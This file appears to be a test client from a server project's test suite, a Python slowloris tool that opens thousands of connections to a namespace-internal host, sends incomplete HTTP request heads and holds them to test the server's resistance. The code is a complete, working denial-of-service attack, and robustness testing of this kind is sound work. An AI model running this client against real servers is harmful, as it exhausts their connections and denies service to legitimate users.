#!/usr/bin/env python3
"""A slowloris client: opens N connections to HOST:PORT, each sending the start of an HTTP
request head and never the rest, and holds them.

Run by tests/tun_attack.rs inside a test's network namespace; usable by hand too:

    python3 tests/clients/partial_heads.py --count 16600 --hold 30

Prints one JSON line when every connection has been tried ({"opened": …, "failed": …,
"seconds": …}), then holds them for --hold seconds (or until stdin closes) and exits.
Every connect has a timeout, so a server that stops answering cannot hang it.
"""

import argparse
import json
import resource
import select
import socket
import sys
import time

HEAD = b"GET / HTTP/1.1\r\nHost: 10.7.0.2\r\nUser-Agent: partial-heads\r\n"


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--host", default="10.7.0.2")
    ap.add_argument("--port", type=int, default=80)
    ap.add_argument("--count", type=int, default=16600)
    ap.add_argument("--hold", type=float, default=30.0, help="seconds to hold them after opening")
    args = ap.parse_args()

    want = args.count + 64
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (max(want, soft), max(want, hard)))

    socks, failed = [], 0
    start = time.monotonic()
    for _ in range(args.count):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.settimeout(3)
        try:
            s.connect((args.host, args.port))
            s.sendall(HEAD)
            socks.append(s)
        except OSError:
            failed += 1
            s.close()
    took = time.monotonic() - start
    print(json.dumps({"opened": len(socks), "failed": failed, "seconds": round(took, 3)}), flush=True)
    # Hold until told to stop (stdin closes) or the time is up.
    select.select([sys.stdin], [], [], args.hold)
    for s in socks:
        s.close()


if __name__ == "__main__":
    main()
